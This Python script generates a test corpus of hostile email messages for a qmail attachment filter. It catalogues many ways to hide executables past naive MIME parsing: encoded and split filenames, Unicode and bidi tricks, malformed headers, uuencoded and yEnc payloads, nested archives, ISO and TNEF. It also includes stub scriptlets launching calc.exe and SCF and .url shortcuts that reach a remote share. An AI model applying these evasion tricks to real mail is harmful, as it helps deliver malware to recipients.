"""Builds the attack corpus deterministically: `python3 tests/corpus/attacks/make_attacks.py`
rewrites the .eml files and README.md beside it (or in the folder given as the argument).

Every message hides an attachment the way mail in the wild does, so that a mail client shows it
while a naive MIME walk does not: names in odd places and odd encodings, names that normalise to
an executable one, broken header blocks, payloads uuencoded or yEnc-coded in text, archives and
TNEF, executables declared as text. ATTACKS is the one table of what the *default* policy
(policies/default.qmvc) must make of each: the outcome, qmail's exit code and, where one rule
must be the one that saw it, that rule. The "crash" messages are real-world shapes that make the
standard library raise; they must be analysed, never deferred.

No external tool is needed: formats.py writes the archives, TNEF, uuencode and yEnc byte for
byte, with fixed timestamps.
"""

# ruff: noqa: E501  (ATTACKS is a table: one attack a row, read across)

from __future__ import annotations

import quopri
import struct
import sys
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

if not __package__:  # run as a script: the project root makes `tests` importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

from tests.corpus.attacks.formats import (
    BAT,
    GIF_HEADER,
    JS,
    PS1,
    README,
    b64,
    cab,
    eicar,
    encode,
    encrypted_zip,
    gzip_of,
    iso9660,
    latin1,
    nested_zip,
    rar4,
    raw,
    rfc2047_b,
    rfc2231,
    seven_zip,
    tar_gz,
    tiny_elf,
    tiny_pdf,
    tnef,
    uuencode,
    yencode,
    zip_after,
    zip_local_name_differs,
    zip_of,
)
from tests.corpus.make_corpus import tiny_pe

ATTACKS_DIR = Path(__file__).resolve().parent
SENDER = "billing@example-supplies.test"
RECIPIENT = "bob@example.com"
BOUNDARY = "----=_Part_4242_1234567.1704186000000"

ANY = "not-deferred"
"""An expected outcome: anything but a deferral (the message is analysed, whatever it is)."""


@dataclass(frozen=True)
class Attack:
    """One hostile message: file, trick, the default policy's outcome and exit code for it.

    `outcome` is clean, badmail, virus or ANY (any verdict but never a deferral); `exit` is
    qmail's exit code (None: any but 111). `rule`, when set, is the badmail rule that must
    be the one that matched (the log flag `1`): the cheaper name rule for a name the client
    shows, so that a PE payload caught by its type alone does not hide a missed name.
    """

    name: str
    trick: str
    outcome: str
    exit: int | None
    build: Callable[[], bytes]
    rule: str | None = None
    sender: str = SENDER


# ---- messages -------------------------------------------------------------------------------


def envelope(subject: str, sender: str = SENDER, mime: bool = True, date_hour: int = 10) -> str:
    """The header block qmail-local leaves: Return-Path and Delivered-To first."""
    message_id = zlib.crc32(subject.encode("utf-8", "surrogateescape"))
    return (
        f"Return-Path: <{sender}>\n"
        f"Delivered-To: {RECIPIENT}\n"
        "Received: (qmail 4242 invoked from network); 2 Jan 2024 10:00:00 -0000\n"
        "Received: from mail.example-supplies.test (203.0.113.7)\n"
        "  by mx.example.com with SMTP; 2 Jan 2024 10:00:00 -0000\n"
        f"From: Example Supplies Accounts <{sender or 'MAILER-DAEMON@mx.example.de'}>\n"
        f"To: Bob Example <{RECIPIENT}>\n"
        f"Subject: {subject}\n"
        f"Date: Tue, 2 Jan 2024 {date_hour:02d}:00:00 +0100\n"
        f"Message-ID: <{message_id}.4242@mail.example-supplies.test>\n"
        + ("MIME-Version: 1.0\n" if mime else "")
    )


def part(headers: list[str], body: str) -> str:
    """A body part: its header lines exactly as given, a blank line, the body."""
    return "".join(line + "\n" for line in headers) + "\n" + body


def multipart_body(parts: list[str], boundary: str = BOUNDARY, delimiter: str = "") -> str:
    """Parts between delimiter lines; `delimiter` is written after `--boundary` (padding)."""
    body = "This is a multi-part message in MIME format.\n\n"
    for text in parts:
        body += f"--{boundary}{delimiter}\n" + text.rstrip("\n") + "\n"
    return body + f"--{boundary}--{delimiter}\n"


def message(
    subject: str,
    content_headers: list[str],
    body: str,
    *,
    sender: str = SENDER,
    mime: bool = True,
) -> bytes:
    head = envelope(subject, sender, mime) + "".join(line + "\n" for line in content_headers)
    return encode(head + "\n" + body)


def mixed(subject: str, parts: list[str], **options: str) -> bytes:
    """multipart/mixed with a greeting first and `parts` after it."""
    return message(
        subject,
        [f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"'],
        multipart_body([GREETING, *parts]),
        **options,
    )


GREETING = part(
    ["Content-Type: text/plain; charset=utf-8", "Content-Transfer-Encoding: 7bit"],
    "Dear customer,\n\nplease find your invoice attached.\n\nKind regards,\nAccounts\n",
)


def attached(
    params: str, data: bytes, content_type: str = "application/octet-stream", extra: list[str] = ()
) -> str:
    """A base64 attachment whose Content-Disposition parameters are `params`, raw."""
    disposition = f"Content-Disposition: attachment; {params}" if params else None
    headers = [f"Content-Type: {content_type}", "Content-Transfer-Encoding: base64"]
    headers += [disposition] if disposition else []
    return part([*headers, *extra], b64(data))


def with_file(
    subject: str,
    params: str,
    data: bytes,
    content_type: str = "application/octet-stream",
    extra: list[str] = (),
) -> Callable[[], bytes]:  # noqa: E501
    return lambda: mixed(subject, [attached(params, data, content_type, extra)])


def pe_named(params: str, subject: str = "Invoice 48213", **kw: object) -> Callable[[], bytes]:
    """A PE attachment whose Content-Disposition parameters are `params`."""
    return with_file(subject, params, tiny_pe(), **kw)  # type: ignore[arg-type]


def pe_with_headers(headers: list[str], subject: str = "Invoice 48213") -> Callable[[], bytes]:
    """A base64 PE part whose header lines are exactly `headers`."""
    return lambda: mixed(subject, [part(headers, b64(tiny_pe()))])


# ---- 1. names -------------------------------------------------------------------------------


def content_location(url: str) -> Callable[[], bytes]:
    return pe_with_headers(
        [
            "Content-Type: application/octet-stream",
            "Content-Transfer-Encoding: base64",
            "Content-Disposition: attachment",
            f"Content-Location: {url}",
        ]
    )


# ---- 3. header blocks -----------------------------------------------------------------------

EXE_PART = part(
    [
        'Content-Type: application/octet-stream; name="invoice.exe"',
        "Content-Transfer-Encoding: base64",
        'Content-Disposition: attachment; filename="invoice.exe"',
    ],
    b64(tiny_pe()),
)


def top_header_trick(content_type_line: str, before: list[str] = ()) -> Callable[[], bytes]:
    """The top-level Content-Type written as `content_type_line`, after `before` lines."""
    return lambda: message(
        "Invoice 48213", [*before, content_type_line], multipart_body([GREETING, EXE_PART])
    )


def garbage_boundary() -> bytes:
    """The boundary parameter is unreadable, yet the body is plainly delimited by `--XYZ`."""
    body = multipart_body([GREETING, EXE_PART], boundary="NextPart_XYZ")
    return message(
        "Invoice 48213", ['Content-Type: multipart/mixed; boundary=";\\"\x01=?;"; boundary'], body
    )


# ---- 4. payloads in text --------------------------------------------------------------------


def text_with(
    block: str, mime: bool = True, intro: str = "Here is the setup program:\n\n"
) -> bytes:
    headers = ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 7bit"]
    return message("Setup", headers if mime else [], intro + block + "\nRegards, Carl\n", mime=mime)


def uuencode_in_multipart_text() -> bytes:
    text = part(
        ["Content-Type: text/plain; charset=us-ascii"],
        "The installer, as agreed:\n\n" + uuencode("setup.exe", tiny_pe()),
    )
    return message(
        "Installer",
        [f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"'],
        multipart_body([text]),
    )


# ---- 5. containers --------------------------------------------------------------------------


def rfc822_named_bat() -> bytes:
    inner = (
        "From: IT Service <it@example-supplies.test>\nTo: bob@example.com\n"
        "Subject: update\nMIME-Version: 1.0\nContent-Type: text/plain\n\n"
    ) + BAT.decode()
    return mixed(
        "Update script",
        [
            part(
                [
                    "Content-Type: message/rfc822",
                    'Content-Disposition: attachment; filename="run.bat"',
                ],
                inner,
            )
        ],
    )


def tar_with_many_members() -> bytes:
    members = [(f"scans/page-{n:05d}.txt", b"") for n in range(1, 10_001)]
    archive = tar_gz([*members, ("scans/invoice.exe", tiny_pe())])
    return mixed("Scans", [attached('filename="scans.tar.gz"', archive, "application/gzip")])


# ---- 6. types by content --------------------------------------------------------------------


def pe_root_text_plain() -> bytes:
    return message(
        "Invoice 48213",
        ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: base64"],
        b64(tiny_pe()),
    )


# ---- 7. the new dangerous names -------------------------------------------------------------


def new_names() -> list[Attack]:
    jar = zip_of(
        [
            ("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0\r\nMain-Class: Invoice\r\n\r\n"),
            ("Invoice.class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(32)),
        ]
    )
    appx_manifest = (
        b'<?xml version="1.0" encoding="utf-8"?>\r\n<Package xmlns="http://schemas.'
        b'microsoft.com/appx/manifest/foundation/windows10"><Identity Name="Invoice"/>'
        b"</Package>\r\n"
    )
    appx = zip_of([("AppxManifest.xml", appx_manifest), ("Invoice.exe", tiny_pe())])
    one = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
    chm = b"ITSF" + struct.pack("<III", 3, 0x60, 1) + bytes(80)
    vhd = bytes(1024) + b"conectix" + struct.pack(">II", 2, 0x10000) + bytes(496)
    vhdx = b"vhdxfile" + "Microsoft Windows 10.0".encode("utf-16-le") + bytes(64)
    url = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\nIconIndex=1\r\n"
    wsc = (
        b'<?XML version="1.0"?>\r\n<component>\r\n<registration progid="Invoice"/>\r\n'
        b'<script language="JScript"><![CDATA[ new ActiveXObject("WScript.Shell")'
        b'.Run("calc.exe"); ]]></script>\r\n</component>\r\n'
    )
    scf = b"[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.7\\share\\icon.ico\r\n[Taskbar]\r\n"
    settings = (
        b'<?xml version="1.0" encoding="UTF-8"?>\r\n<PCSettings><SearchableContent '
        b'xmlns="http://schemas.microsoft.com/Search/2013/SettingContent"><ApplicationInformation>'
        b"<AppID>windows.immersivecontrolpanel_cw5n1h2txyewy!microsoft.windows.immersivecontrol"
        b"panel</AppID><DeepLink>%windir%\\system32\\cmd.exe /c calc.exe</DeepLink>"
        b"</ApplicationInformation></SearchableContent></PCSettings>\r\n"
    )
    payloads = [
        ("ps1", "text/plain", PS1),
        ("psm1", "text/plain", PS1),
        ("jar", "application/java-archive", jar),
        ("iso", "application/octet-stream", iso9660([("README.TXT", README)])),
        ("img", "application/octet-stream", iso9660([("README.TXT", README)], "IMG")),
        ("vhd", "application/octet-stream", vhd),
        ("vhdx", "application/octet-stream", vhdx),
        ("one", "application/onenote", one),
        ("chm", "application/vnd.ms-htmlhelp", chm),
        ("url", "application/internet-shortcut", url),
        ("appx", "application/octet-stream", appx),
        ("msix", "application/octet-stream", appx),
        ("xll", "application/vnd.ms-excel", tiny_pe(dll=True)),
        ("wsc", "text/xml", wsc),
        ("scf", "application/octet-stream", scf),
        ("settingcontent-ms", "application/xml", settings),
    ]
    return [
        Attack(
            f"newname-{extension}.eml",
            f"a file named invoice.{extension}",
            "badmail",
            99,
            with_file(
                f"Invoice ({extension})", f'filename="invoice.{extension}"', data, content_type
            ),
            "filename",
        )
        for extension, content_type, data in payloads
    ]


# ---- 8. real mail that crashes naive parsers ------------------------------------------------


def bounce(every_block: bool, status_base64: bool = False) -> bytes:
    """A German MTA's delivery report to the null sender, raw ISO-8859-1 in its report."""
    note = latin1("Empfänger unbekannt")
    per_message = "Reporting-MTA: dns; mx.example.de\n"
    if every_block:
        per_message += latin1("X-Postmaster-Note: Zustellung über mx.example.de fehlgeschlagen\n")
    per_message += "Arrival-Date: Tue, 2 Jan 2024 10:00:00 +0100\n"
    recipients = [
        "Final-Recipient: rfc822; anna@example.de\nAction: failed\nStatus: 5.1.1\n"
        f"Diagnostic-Code: smtp; 550 5.1.1 <anna@example.de>: {note}\n"
    ]
    if every_block:
        recipients.append(
            "Final-Recipient: rfc822; j" + latin1("ö") + "rg@example.de\n"
            "Action: failed\nStatus: 5.2.2\n"
            "Diagnostic-Code: smtp; 552 " + latin1("Postfach voll, bitte später erneut") + "\n"
        )
    status = per_message + "".join("\n" + block for block in recipients)
    original = (
        "Return-Path: <bob@example.com>\nFrom: Bob Example <bob@example.com>\n"
        "To: anna@example.de\nSubject: " + (latin1("Grüße") if every_block else "Hello") + "\n"
        "Date: Tue, 2 Jan 2024 09:59:00 +0100\nMessage-ID: <4711@example.com>\n"
    )
    explanation = (
        "Hi. This is the qmail-send program at mx.example.de.\n"
        "I'm afraid I wasn't able to deliver your message to the following addresses.\n"
        "This is a permanent error; I've given up. Sorry it didn't work out.\n\n"
        f"<anna@example.de>:\n550 5.1.1 {note}\n"
    )
    report = multipart_body(
        [
            part(
                ["Content-Type: text/plain; charset=iso-8859-1", "Content-Transfer-Encoding: 8bit"],
                explanation,
            ),
            part(
                ["Content-Type: message/delivery-status", "Content-Transfer-Encoding: base64"],
                b64(encode(status)),
            )
            if status_base64
            else part(["Content-Type: message/delivery-status"], status),
            part(["Content-Type: text/rfc822-headers"], original),
        ],
        boundary="qmail-bounce-1704186000",
    )
    head = envelope("failure notice", sender="").replace(
        "From: Example Supplies Accounts <MAILER-DAEMON@mx.example.de>",
        "From: MAILER-DAEMON@mx.example.de",
    )
    head += 'Content-Type: multipart/report; report-type=delivery-status;\n boundary="qmail-bounce-1704186000"\n'
    return encode(head + "\n" + report)


def rfc822_base64_with_exe() -> bytes:
    """A forwarded message (message/rfc822) sent in base64, carrying invoice.exe."""
    inner = envelope("Your invoice") + (
        'Content-Type: multipart/mixed; boundary="=_inner"\n\n'
        + multipart_body([GREETING, EXE_PART], boundary="=_inner")
    )
    return mixed(
        "Fwd: Your invoice",
        [
            part(
                [
                    "Content-Type: message/rfc822",
                    "Content-Transfer-Encoding: base64",
                    'Content-Disposition: attachment; filename="Your invoice.eml"',
                ],
                b64(encode(inner)),
            )
        ],
    )


def text_charset(charset: str, body: bytes, subject: str = "Hello") -> Callable[[], bytes]:
    """A text/plain message whose charset parameter is `charset`, 8-bit body."""
    return lambda: message(
        subject,
        [f'Content-Type: text/plain; charset="{charset}"', "Content-Transfer-Encoding: 8bit"],
        raw(body),
    )


# ---- the table ------------------------------------------------------------------------------

PE = tiny_pe()
ZWSP, ZWJ = "\u200b", "\u200d"


def _attacks() -> list[Attack]:
    bad = "badmail"
    a = Attack
    return [
        # 1. names
        a("name-star-dangerous-plain-harmless.eml", "filename=\"invoice.pdf\" but filename*=utf-8''invoice.exe (clients prefer the *)", bad, 99,
          pe_named("filename=\"invoice.pdf\"; filename*=utf-8''invoice.exe"), "filename"),
        a("name-plain-dangerous-star-harmless.eml", "filename=\"invoice.exe\" but filename*=utf-8''invoice.pdf (older clients take the plain one)", bad, 99,
          pe_named("filename=\"invoice.exe\"; filename*=utf-8''invoice.pdf"), "filename"),
        a("name-only-content-type-name-star.eml", "the name only in Content-Type name*=utf-8''setup.exe; a bare `attachment` disposition", bad, 99,
          pe_with_headers(["Content-Type: application/octet-stream; name*=utf-8''setup.exe", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"]), "filename"),
        a("name-only-content-name-header.eml", "the name only in a `Content-Name: setup.exe` header", bad, 99,
          pe_with_headers(["Content-Type: application/octet-stream", "Content-Name: setup.exe", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"]), "filename"),
        a("name-only-x-sun-data-name.eml", "the name only in Sun's `X-Sun-Data-Name: setup.exe`", bad, 99,
          pe_with_headers(["Content-Type: application/octet-stream", "X-Sun-Data-Type: default", "X-Sun-Data-Name: setup.exe", "Content-Transfer-Encoding: base64"]), "filename"),
        a("name-only-content-location-http.eml", "the name only in the last segment of `Content-Location: http://files.example.net/dl/run.exe`", bad, 99,
          content_location("http://files.example.net/dl/run.exe"), "filename"),
        a("name-only-content-location-file.eml", "the name only in `Content-Location: file:///C:/Users/Public/run.exe`", bad, 99,
          content_location("file:///C:/Users/Public/run.exe"), "filename"),
        a("name-quoted-pair-js.eml", 'a quoted-pair in the name: filename="invoice.j\\s" is invoice.js (a JScript, not sniffable)', bad, 99,
          with_file("Invoice", 'filename="invoice.j\\s"', JS, "application/octet-stream"), "filename"),
        a("name-quoted-pair-exe.eml", 'quoted-pairs in both names: name="run.e\\xe", filename="run.e\\xe"', bad, 99,
          pe_with_headers(['Content-Type: application/octet-stream; name="run.e\\xe"', "Content-Transfer-Encoding: base64", 'Content-Disposition: attachment; filename="run.e\\xe"']), "filename"),
        a("name-rfc2231-bad-escape.eml", "filename*=utf-8''%ZZrun.exe (invalid %-escape); Content-Type name=\"run.exe\"", bad, 99,
          pe_with_headers(['Content-Type: application/octet-stream; name="run.exe"', "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename*=utf-8''%ZZrun.exe"]), "filename"),
        a("name-rfc2231-nul-in-charset.eml", "filename*=utf\\0-8''invoice.pdf (NUL in the charset) and Content-Type name=\"run.exe\"", bad, 99,
          pe_with_headers(['Content-Type: application/octet-stream; name="run.exe"', "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename*=utf\0-8''invoice.pdf"]), "filename"),
        a("name-rfc2231-bad-charset-js.eml", "filename*=x-no-such-charset''invoice.js (unknown charset), a JScript", bad, 99,
          with_file("Invoice", "filename*=x-no-such-charset''invoice.js", JS), "filename"),
        a("name-rfc2231-star-mixed-with-star0.eml", "filename*=utf-8''invoice.pdf mixed with filename*0=run. filename*1=exe", bad, 99,
          pe_named("filename*=utf-8''invoice.pdf; filename*0=\"run.\"; filename*1=\"exe\""), "filename"),
        a("name-rfc2231-continuation-split-ext.eml", "filename*0*=utf-8''invoice.e; filename*1=xe: the extension split across continuations", bad, 99,
          pe_named("filename*0*=utf-8''invoice.e; filename*1=xe"), "filename"),
        a("name-rfc2231-continuations-out-of-order.eml", "continuations in reverse order: filename*1=\"xe\"; filename*0=\"setup.e\"", bad, 99,
          pe_named('filename*1="xe"; filename*0="setup.e"'), "filename"),
        a("name-rfc2047-whole-name-q.eml", 'filename="=?utf-8?Q?invoice=2Eexe?=": the dot encoded', bad, 99,
          pe_named('filename="=?utf-8?Q?invoice=2Eexe?="'), "filename"),
        a("name-rfc2047-extension-only.eml", 'only the extension is an encoded word, glued on: name="invoice=?utf-8?B?LmV4ZQ==?="', bad, 99,
          pe_with_headers(['Content-Type: application/octet-stream; name="invoice=?utf-8?B?LmV4ZQ==?="', "Content-Transfer-Encoding: base64", 'Content-Disposition: attachment; filename="invoice=?utf-8?B?LmV4ZQ==?="']), "filename"),
        a("name-rfc2047-unquoted.eml", "an unquoted encoded word: name==?utf-8?B?cnVuLmV4ZQ==?= (run.exe)", bad, 99,
          pe_with_headers(["Content-Type: application/octet-stream; name==?utf-8?B?cnVuLmV4ZQ==?=", "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"]), "filename"),
        a("name-duplicate-harmless-first.eml", 'filename="invoice.pdf"; filename="invoice.exe"', bad, 99,
          pe_named('filename="invoice.pdf"; filename="invoice.exe"'), "filename"),
        a("name-duplicate-dangerous-first.eml", 'filename="invoice.exe"; filename="invoice.pdf"', bad, 99,
          pe_named('filename="invoice.exe"; filename="invoice.pdf"'), "filename"),
        a("name-duplicate-in-content-type.eml", 'name="invoice.pdf"; name="invoice.js" in Content-Type, no disposition name (a JScript)', bad, 99,
          lambda: mixed("Invoice", [part(['Content-Type: application/octet-stream; name="invoice.pdf"; name="invoice.js"', "Content-Transfer-Encoding: base64", "Content-Disposition: attachment"], b64(JS))]), "filename"),
        a("name-rfc2231-bad-escape-harmless.eml", "filename*=utf-8''%ZZinvoice.pdf (invalid %-escape, harmless) and Content-Type name=\"run.exe\": the next candidate counts", bad, 99,
          pe_with_headers(['Content-Type: application/octet-stream; name="run.exe"', "Content-Transfer-Encoding: base64", "Content-Disposition: attachment; filename*=utf-8''%ZZinvoice.pdf"]), "filename"),
        a("name-only-content-location-query.eml", "the name only in `Content-Location: http://files.example.net/dl/run.exe?download=1#top`", bad, 99,
          content_location("http://files.example.net/dl/run.exe?download=1#top"), "filename"),
        a("name-only-content-location-percent.eml", "the name only in `Content-Location: http://files.example.net/dl/run%2Eexe` (percent-encoded dot)", bad, 99,
          content_location("http://files.example.net/dl/run%2Eexe"), "filename"),
        # 2. normalisation
        a("norm-trailing-dot.eml", 'filename="run.exe." (Windows drops trailing dots)', bad, 99, pe_named('filename="run.exe."'), "filename"),
        a("norm-trailing-dots-js.eml", 'filename="invoice.js.." on a JScript', bad, 99, with_file("Invoice", 'filename="invoice.js.."', JS), "filename"),
        a("norm-trailing-spaces.eml", 'filename="run.exe   " (Windows drops trailing spaces)', bad, 99, pe_named('filename="run.exe   "'), "filename"),
        a("norm-trailing-dots-and-spaces.eml", 'filename="run.exe . . " (dots and spaces)', bad, 99, pe_named('filename="run.exe . . "'), "filename"),
        a("norm-ntfs-stream.eml", 'filename="run.exe::$DATA" (the NTFS default stream)', bad, 99, pe_named('filename="run.exe::$DATA"'), "filename"),
        a("norm-zero-width-space.eml", "U+200B ZERO WIDTH SPACE inside the extension: run.e\u200bxe (RFC 2231)", bad, 99,
          pe_named("filename*=" + rfc2231(f"run.e{ZWSP}xe")), "filename"),
        a("norm-zero-width-joiner.eml", "U+200D ZERO WIDTH JOINER and U+FEFF inside: run.ex\u200de\ufeff (RFC 2047)", bad, 99,
          pe_named(f'filename="{rfc2047_b(f"run.ex{ZWJ}e" + chr(0xFEFF))}"'), "filename"),
        a("norm-bidi-override-in-extension.eml", "U+202E RIGHT-TO-LEFT OVERRIDE inside the extension: run.e\u202exe\u202c", bad, 99,
          pe_named("filename*=" + rfc2231("run.e\u202exe\u202c")), "filename"),
        a("norm-bidi-isolates.eml", "U+2066..U+2069 isolates around and in the extension: run.\u2066e\u2067x\u2068e\u2069", bad, 99,
          pe_named("filename*=" + rfc2231("run.\u2066e\u2067x\u2068e\u2069")), "filename"),
        a("norm-nul-rfc2231.eml", "filename*=utf-8''run.exe%00.txt (C clients stop at the NUL)", bad, 99,
          pe_named("filename*=utf-8''run.exe%00.txt"), "filename"),
        a("norm-nul-raw.eml", 'a raw NUL byte in the name: filename="run.exe\\0.txt"', bad, 99,
          pe_named('filename="run.exe\0.txt"'), "filename"),
        a("norm-fullwidth-dot.eml", "U+FF0E FULLWIDTH FULL STOP: run\uff0eexe", bad, 99,
          pe_named("filename*=" + rfc2231("run\uff0eexe")), "filename"),
        a("norm-fullwidth-letters.eml", "fullwidth letters: run.\uff45\uff58\uff45 (NFKC: run.exe)", bad, 99,
          pe_named(f'filename="{rfc2047_b("run.ｅｘｅ")}"'), "filename"),
        a("norm-one-dot-leader.eml", "U+2024 ONE DOT LEADER and U+FF53 in invoice\u2024j\uff53 (NFKC: invoice.js), a JScript", bad, 99,
          with_file("Invoice", "filename*=" + rfc2231("invoice\u2024j\uff53"), JS), "filename"),
        a("norm-mixed-case.eml", 'filename="RUN.EXE"', bad, 99, pe_named('filename="RUN.EXE"'), "filename"),
        a("norm-mixed-case-js.eml", 'filename="Invoice.Js" on a JScript', bad, 99, with_file("Invoice", 'filename="Invoice.Js"', JS), "filename"),
        # 3. header blocks
        a("hdr-space-before-colon-top.eml", "top-level `Content-Type : multipart/mixed` (space before the colon) hides invoice.exe", bad, 99,
          top_header_trick(f'Content-Type : multipart/mixed; boundary="{BOUNDARY}"'), "filename"),
        a("hdr-tab-before-colon-top.eml", "top-level `Content-Type\\t: multipart/mixed` (tab before the colon)", bad, 99,
          top_header_trick(f'Content-Type\t: multipart/mixed; boundary="{BOUNDARY}"'), "filename"),
        a("hdr-space-before-colon-part.eml", "the attachment's `Content-Type :` and `Content-Disposition :` with a space before the colon", bad, 99,
          pe_with_headers(['Content-Type : application/octet-stream; name="invoice.exe"', "Content-Transfer-Encoding : base64", 'Content-Disposition : attachment; filename="invoice.exe"']), "filename"),
        a("hdr-tab-before-colon-part.eml", "the attachment's headers with a tab before the colon", bad, 99,
          pe_with_headers(['Content-Type\t: application/octet-stream; name="invoice.exe"', "Content-Transfer-Encoding\t: base64", 'Content-Disposition\t: attachment; filename="invoice.exe"']), "filename"),
        a("hdr-junk-line-top.eml", "a line without a colon in the top-level header block, before MIME-Version and Content-Type", bad, 99,
          lambda: encode(envelope("Invoice 48213", mime=False) + "This line has no colon at all\nMIME-Version: 1.0\n"
                         f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"\n\n' + multipart_body([GREETING, EXE_PART])), "filename"),
        a("hdr-junk-line-part.eml", "a line without a colon inside the attachment's header block, before its name", bad, 99,
          pe_with_headers(["Content-Type: application/octet-stream", "this line has no colon", "Content-Transfer-Encoding: base64", 'Content-Disposition: attachment; filename="invoice.exe"']), "filename"),
        a("hdr-garbage-boundary.eml", "multipart whose boundary parameter is garbage while the body is plainly delimited parts with invoice.exe (badmail either way: found or `unanalysable`)", bad, 99,
          garbage_boundary),
        a("hdr-duplicate-boundary-param.eml", "two boundary parameters: a decoy first, the one the body uses second", bad, 99,
          top_header_trick(f'Content-Type: multipart/mixed; boundary="=_decoy_never_used"; boundary="{BOUNDARY}"')),
        a("hdr-two-top-content-types.eml", "two top-level Content-Type headers: text/plain first, then the multipart/mixed the body is", bad, 99,
          top_header_trick(f'Content-Type: multipart/mixed; boundary="{BOUNDARY}"', before=["Content-Type: text/plain; charset=us-ascii"])),
        a("hdr-boundary-rfc2231-continuations.eml", "the boundary in RFC 2231 continuations: boundary*0=...; boundary*1=...", bad, 99,
          top_header_trick(f'Content-Type: multipart/mixed;\n boundary*0="{BOUNDARY[:12]}";\n boundary*1="{BOUNDARY[12:]}"'), "filename"),
        # 4. payloads in text
        a("text-uuencode-in-mime-text.eml", "`begin 644 setup.exe` uuencoded inside a MIME text/plain body", bad, 99,
          lambda: text_with(uuencode("setup.exe", PE)), "filename"),
        a("text-uuencode-non-mime.eml", "`begin 644 setup.exe` in a plain message without any MIME header", bad, 99,
          lambda: text_with(uuencode("setup.exe", PE), mime=False), "filename"),
        a("text-uuencode-in-multipart-text.eml", "`begin 644 setup.exe` inside the text part of a multipart", bad, 99,
          uuencode_in_multipart_text, "filename"),
        a("text-uuencode-photo-jpg.eml", "`begin 644 photo.jpg` uuencoded in text: the name is harmless, the content a PE", bad, 99,
          lambda: text_with(uuencode("photo.jpg", PE), intro="Holiday photo:\n\n"), "filetype"),
        a("text-yenc.eml", "a yEnc block `=ybegin line=128 size=1024 name=setup.exe` in a text/plain body", bad, 99,
          lambda: message("Setup", ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: 8bit"], "Here it is:\n\n" + yencode("setup.exe", PE)), "filename"),
        a("text-yenc-harmless-name.eml", "a yEnc block named scan.png whose content is a PE, in a plain non-MIME message", bad, 99,
          lambda: message("Scan", [], "Scan attached:\n\n" + yencode("scan.png", PE), mime=False), "filetype"),
        a("text-uuencode-in-base64-text.eml", "`begin 644 setup.exe` uuencoded inside a text/plain body that is itself base64", bad, 99,
          lambda: message("Setup", ["Content-Type: text/plain; charset=us-ascii", "Content-Transfer-Encoding: base64"], b64(("Here is the setup program:\n\n" + uuencode("setup.exe", PE)).encode())), "filename"),
        a("text-uuencode-crlf.eml", "`begin 644 setup.exe` in a plain text message with CRLF line ends", bad, 99,
          lambda: text_with(uuencode("setup.exe", PE)).replace(b"\n", b"\r\n"), "filename"),
        # 5. containers
        a("cont-tnef-exe.eml", "Outlook's winmail.dat (application/ms-tnef) carrying invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="winmail.dat"', tnef([("invoice.exe", PE)]), "application/ms-tnef; name=\"winmail.dat\"")),
        a("cont-rfc822-named-bat.eml", "a message/rfc822 part with Content-Disposition filename=\"run.bat\" (clients show run.bat)", bad, 99,
          rfc822_named_bat, "filename"),
        a("cont-zip-exe.eml", "invoice.zip holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.zip"', zip_of([("invoice.exe", PE)]), "application/zip")),
        a("cont-zip-in-zip-exe.eml", "a zip in a zip holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.zip"', nested_zip(2, "invoice.exe", PE), "application/zip")),
        a("cont-zip-encrypted-exe.eml", "a password-protected zip (ZipCrypto, password in the text) holding invoice.exe: the member name is readable", bad, 99,
          lambda: mixed("Invoice 48213 (password: 4821)", [attached('filename="invoice.zip"', encrypted_zip("invoice.exe", PE, b"4821"), "application/zip")])),
        a("cont-zip-pdf-that-is-pe.eml", "photos.zip holding invoice.pdf that is really a PE (type by content inside the archive)", bad, 99,
          with_file("Photos", 'filename="photos.zip"', zip_of([("IMG_0001.txt", README), ("invoice.pdf", PE)]), "application/zip")),
        a("cont-targz-exe.eml", "a tar.gz holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.tar.gz"', tar_gz([("invoice/readme.txt", README), ("invoice/invoice.exe", PE)]), "application/gzip")),
        a("cont-7z-exe.eml", "a 7z archive (Copy coder) holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.7z"', seven_zip("invoice.exe", PE), "application/x-7z-compressed")),
        a("cont-rar-exe.eml", "a RAR 4 archive (stored) holding invoice.exe", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.rar"', rar4("invoice.exe", PE), "application/x-rar-compressed")),
        a("cont-iso-exe-harmless-name.eml", "an ISO 9660 image named order-0042.dat holding INVOICE.EXE", bad, 99,
          with_file("Order 0042", 'filename="order-0042.dat"', iso9660([("README.TXT", README), ("INVOICE.EXE", PE)]))),
        a("cont-iso-minimal-exe.eml", "a minimal ISO 9660 image (23 sectors, 46 KB: shorter than the 48 KB libarchive reads before it recognises an ISO) named order-0042.dat, holding INVOICE.EXE", bad, 99,
          with_file("Order 0042", 'filename="order-0042.dat"', iso9660([("README.TXT", README), ("INVOICE.EXE", PE)], min_sectors=0))),
        a("cont-zip-nested-5-deep.eml", "invoice.exe at the bottom of five nested zips (beyond any sane depth: found or `unanalysable`)", bad, 99,
          with_file("Invoice 48213", 'filename="invoice.zip"', nested_zip(5, "invoice.exe", PE), "application/zip")),
        a("cont-targz-10000-members.eml", "a tar.gz of 10,000 empty files and then invoice.exe (found or `unanalysable`)", bad, 99,
          tar_with_many_members),
